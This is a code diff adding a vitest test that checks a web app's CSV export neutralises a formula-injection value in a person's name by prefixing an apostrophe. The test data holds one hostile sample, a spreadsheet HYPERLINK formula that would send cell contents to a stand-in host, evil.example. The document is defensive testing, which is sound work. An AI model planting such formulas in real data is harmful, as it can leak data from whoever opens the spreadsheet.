@@ -1,3 +1,4 @@
+import { parse } from 'csv-parse/sync'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { Client, createTestApp, type Fixture, seedCouncil } from '../../../test/helpers.ts'
 import { markUnsourced } from '../../brokerage/offers/award.ts'
@@ -300,5 +301,31 @@ describe('a list longer than a page', () => {
     const bad = await client.get('/icl?page=two')
     expect(bad.statusCode).toBe(400)
     expect(bad.body).toContain('Page must be a whole number from 1')
+  })
+})
+
+describe('the CSV of a list with a name that is a formula', () => {
+  const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open record")'
+
+  it('writes the name as text a spreadsheet will not run', async () => {
+    const other = await seedCouncil(t.database, 'ICLF', t.config)
+    const { requestId } = await createTestRequest(t.database.db, other.councilId, {
+      person: { name: FORMULA, dateOfBirth: '1940-05-05' },
+      publish: false,
+    })
+    await setRequestStatus(t.database.db, requestId, 'closed')
+    await markUnsourced(
+      t.database.db,
+      { councilId: other.councilId, actor: { kind: 'system', label: 'test' } },
+      requestId,
+      {},
+    )
+    const broker = new Client(t.app)
+    await broker.signIn(other.emails.broker)
+    const response = await broker.get('/icl.csv')
+    expect(response.statusCode).toBe(200)
+    const [, row] = response.body.trim().split('\n')
+    expect(row).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Open record"")",`)
+    expect((parse(response.body) as string[][])[1]?.[1]).toBe(`'${FORMULA}`)
   })
 })
